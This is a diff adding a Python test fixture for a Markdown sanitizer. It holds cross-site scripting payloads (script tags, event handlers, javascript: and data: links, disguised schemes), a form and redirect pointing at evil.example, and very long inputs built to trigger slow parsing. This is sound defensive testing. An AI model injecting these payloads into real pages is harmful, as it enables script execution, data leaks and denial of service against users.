@@ -1,0 +1,104 @@
+"""What a model may write: attacks, long texts, and the Markdown that is meant to be seen."""
+
+# What is written, and a part of it that must stand in the text as it was written (None: all of it).
+ATTACKS = {
+    "script": ("<script>window.hit = 1</script>", None),
+    "img onerror": ("<img src=x onerror=window.hit=1>", None),
+    "svg onload": ("<svg/onload=window.hit=1>", None),
+    "iframe": ('<iframe srcdoc="<script>parent.hit=1</script>"></iframe>', None),
+    "style": ("<style>body{display:none}</style><b style='position:fixed'>x</b>", None),
+    "form": ('<form action="https://evil.example"><input name=key></form>', None),
+    "base and meta":
+        ('<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">', None),
+    "entities": ("&lt;img src=x onerror=window.hit=1&gt; &#60;b&#62;", None),
+    "javascript link": ("[click](javascript:window.hit=1)", None),
+    "javascript link with an authority":
+        ("[a](javascript://x.example/%0awindow.hit=1) [b](javascript:https://x)", None),
+    "javascript link in disguise":
+        ("[a](JaVaScRiPt:window.hit=1) [b](java\tscript:window.hit=1) [c](&#106;avascript:window.hit=1)", None),
+    "javascript in angle brackets": ("[a](<javascript:window.hit=1>) <javascript:window.hit=1>", None),
+    "data link": ("[a](data:text/html;base64,PHNjcmlwdD4=)", None),
+    "vbscript, file, blob": ("[a](vbscript:x) [b](file:///etc/passwd) [c](blob:http://x/y)", None),
+    "link by reference": ("[a][1]\n\n[1]: javascript:window.hit=1", "[1]: javascript:window.hit=1"),
+    "quote in a link": ('[a](https://x.example/"onmouseover="window.hit=1)', None),
+    "title of a link": ('[a](https://x.example "t" onclick="window.hit=1")', None),
+    "markup in a link's text":
+        ("[<img src=x onerror=window.hit=1>](https://x.example)", "<img src=x onerror=window.hit=1>"),
+    "picture of elsewhere": ("![alt](https://evil.example/pixel.png)", "alt"),
+    "picture of data": ("![a](data:image/svg+xml;base64,AAAA) ![b](javascript:window.hit=1)", None),
+    "script in code": ("`<script>window.hit=1</script>` ``<img onerror=window.hit=1>``",
+                       "<script>window.hit=1</script> <img onerror=window.hit=1>"),
+    "fence in a fence": ("````md\n```html\n<script>window.hit=1</script>\n```\n````\nafter",
+                         "```html\n<script>window.hit=1</script>\n```"),
+    "fence that does not close": ("```html\n<script>window.hit=1</script>\n<img src=x onerror=window.hit=1>",
+                                  "<script>window.hit=1</script>\n<img src=x onerror=window.hit=1>"),
+    "name of a language": ('```"><script>window.hit=1</script>\nx\n```', "x"),
+    "property as a language": ("```__proto__\nx\n```\n\n```constructor\ny\n```", "constructor"),
+    "table": ("|<script>window.hit=1</script>|b|\n|-|-|\n|<img src=x onerror=window.hit=1>|[x](javascript:window.hit=1)|",
+              "<img src=x onerror=window.hit=1>[x](javascript:window.hit=1)"),
+    "heading, list, quote": ("# <script>window.hit=1</script>\n- <img src=x onerror=window.hit=1>\n> <b>x</b>",
+                             "<script>window.hit=1</script><img src=x onerror=window.hit=1><b>x</b>"),
+    "directions and zeros": ("\u202egnp.exe\u202c a\u0000b \ufeff [a](https://x.example/\u202e)", "gnp.exe"),
+    "template of another engine": ("{{constructor.constructor('window.hit=1')()}} ${window.hit=1}", None),
+}
+
+# Each would take minutes where a pass is quadratic or worse.
+LONG = {
+    "one word": "a" * 100_000,
+    "blanks": " " * 100_000 + "x",
+    "blanks below a bar": "|a|\n" + " " * 100_000 + "x",
+    "stars": "*" * 100_000,
+    "stars apart": "* " * 50_000 + "x",
+    "bold that does not end": "**a " * 25_000,
+    "emphasis that does not end": "*a _b " * 16_000,
+    "nested emphasis": "*a **b " * 10_000 + "b** a* " * 10_000,
+    "backticks of every length": " ".join("`" * n for n in range(1, 440)),
+    "backticks": "`" * 100_001 + "a`",
+    "brackets": "[" * 50_000 + "]" * 50_000,
+    "links that do not end": "[a](http://x" * 8_000,
+    "brackets and targets": "[](" * 30_000,
+    "parentheses in a link": "[a](http://x/" + "(" * 90_000,
+    "quotes in quotes": ">" * 100_000,
+    "lists in lists": "\n".join(" " * n + "- a" for n in range(400)),
+    "quote in list in quote": "> - " * 20_000,
+    "rule that is none": "- " * 50_000 + "x",
+    "fence that is none": "`" * 50_000 + " x ` " + "~" * 40_000,
+    "table without cells": "|a" * 30 + "|\n" + "|-" * 30 + "|\n" + "|\n" * 30_000,
+    "wide table": "|a" * 20_000 + "|\n" + "|-" * 20_000 + "|\n" + "|\n" * 2_000,
+    "escapes": "\\" * 100_000,
+    "lines": "x\n" * 50_000,
+    "numbers": "1. a\n" * 20_000,
+    "headings": "# a\n" * 20_000,
+    "heading of blanks": "#" + " " * 100_000,
+}
+
+
+def code(language, text):
+    bar = f'<div class="bar"><span>{language}</span></div>'
+    return f'<div class="code">{bar}<pre tabindex="0"><code>{text}</code></pre></div>'
+
+
+def link(target, text):
+    return f'<a href="{target}" title="{target}" rel="noopener noreferrer nofollow" target="_blank">{text}</a>'
+
+
+# The subset that is meant to be seen, and the elements that it becomes.
+SHOWN = {
+    "a **b** *c* `d` ~~e~~": "<p>a <strong>b</strong> <em>c</em> <code>d</code> <del>e</del></p>",
+    "***a*** __b__ snake_case_name 2 * 3": "<p><em><strong>a</strong></em> <strong>b</strong> snake_case_name 2 * 3</p>",
+    "**a *b* c** \\*d\\*": "<p><strong>a <em>b</em> c</strong> *d*</p>",
+    "# A\n## B\ntext": "<h3>A</h3><h4>B</h4><p>text</p>",
+    "- a\n- b\n  - c\n\n- d": "<ul><li>a</li><li>b<ul><li>c</li></ul></li><li>d</li></ul>",
+    "3. a\n   more\n4. b\n   - c": '<ol start="3"><li>a\nmore</li><li>b<ul><li>c</li></ul></li></ol>',
+    "1. a\n\n   ```py\n   x = 1\n     y\n   ```\n2. b": "<ol><li>a" + code("py", "x = 1\n  y") + "</li><li>b</li></ol>",
+    "In\n1984. It was\n- so": "<p>In\n1984. It was</p><ul><li>so</li></ul>",
+    "> a\n> > b\n\nc": "<blockquote><p>a</p><blockquote><p>b</p></blockquote></blockquote><p>c</p>",
+    "a\n\n---\n\nb": "<p>a</p><hr><p>b</p>",
+    "|a|b|\n|:-|-:|\n|1|**2**|":
+        '<div class="wide" tabindex="0"><table><tr><th>a</th><th class="right">b</th></tr>'
+        '<tr><td>1</td><td class="right"><strong>2</strong></td></tr></table></div>',
+    "[a](https://x.example/b_(c)) x": f"<p>{link('https://x.example/b_(c)', 'a')} x</p>",
+    "`` a`b `` and `c": "<p><code>a`b</code> and `c</p>",
+    "~~~\na\n```\nb\n~~~": code("text", "a\n```\nb"),
+    "a < b && c > d": "<p>a &lt; b &amp;&amp; c &gt; d</p>",
+}
